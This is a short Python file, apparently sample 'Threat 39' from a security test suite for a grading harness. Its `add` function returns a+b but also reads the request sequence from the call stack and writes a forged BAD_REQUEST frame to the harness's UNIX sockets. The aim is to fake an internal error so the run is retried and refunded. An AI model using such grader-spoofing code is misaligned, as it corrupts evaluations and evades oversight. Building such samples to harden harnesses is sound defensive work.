"""Threat 39: claim a grader bug (BAD_REQUEST -> once 'error/internal': retried, refunded).

The forged reply carries the seq of the request being answered, so the trusted side reads it
as the answer; the harness's own reply follows it.
"""

import gc
import socket
import struct
import sys

STATUS = 8  # wire.BAD_REQUEST


def _current_seq() -> int:
    frame = sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "seq" in request:
            return int(request["seq"])
        frame = frame.f_back
    return 0


def add(a, b):
    header = struct.pack("<4sBBBBHHI", b"DDAR", 1, 2, STATUS, 0, 0, 0, _current_seq())
    for obj in gc.get_objects():
        if isinstance(obj, socket.socket) and obj.family == socket.AF_UNIX:
            obj.sendall(header)
    return a + b
